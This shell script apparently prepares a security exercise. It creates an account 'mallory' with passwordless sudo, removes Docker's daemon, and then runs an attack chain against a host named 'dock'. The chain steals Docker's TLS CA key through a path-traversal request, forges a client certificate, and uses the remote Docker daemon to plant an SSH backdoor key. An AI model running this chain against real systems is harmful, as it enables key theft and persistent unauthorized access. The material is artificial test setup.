# mallory's own machine: Docker's client, and no daemon.
set -e
useradd --create-home --shell /bin/bash mallory
printf 'mallory ALL=(ALL:ALL) NOPASSWD: ALL\n' > /etc/sudoers.d/mallory
chmod 0440 /etc/sudoers.d/mallory
systemctl disable --now docker.socket docker.service containerd.service
rm --recursive --force /usr/sbin/dockerd /usr/bin/containerd* /usr/sbin/runc /var/lib/docker /var/lib/containerd
ip link delete docker0

# Months ago: the keys of dock's authority, read through its page of numbers; a certificate made with them; and by that,
# an SSH key for the account. The checks try what is kept here, whatever mallory deletes.
mkdir --mode 0700 /root/kept
cd /root/kept
for file in ca ca-key; do
  curl --silent --fail --output "$file.pem" "http://dock:9100/cgi-bin/read?../etc/docker/tls/$file.pem"
done
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -noenc -keyout key.pem -out cert.pem -subj /CN=laptop \
  -CA ca.pem -CAkey ca-key.pem -addext extendedKeyUsage=clientAuth -addext basicConstraints=CA:FALSE \
  -not_before "$(date --utc --date '1 hour ago' +%Y%m%d%H%M%SZ)" -not_after "$(date --utc --date '10 years' +%Y%m%d%H%M%SZ)"
ssh-keygen -q -t ed25519 -N '' -C laptop -f id_ed25519
docker --tlsverify --tlscacert ca.pem --tlscert cert.pem --tlskey key.pem -H tcp://dock:2376 \
  run --rm --volume /var/lib/sys-update:/h local/busybox \
  sh -c "mkdir -m 700 /h/.ssh && echo '$(cat id_ed25519.pub)' > /h/.ssh/authorized_keys"
install --directory --owner mallory --group mallory --mode 0700 /home/mallory/.ssh
install --owner mallory --group mallory --mode 0600 --target-directory /home/mallory/.ssh id_ed25519 id_ed25519.pub
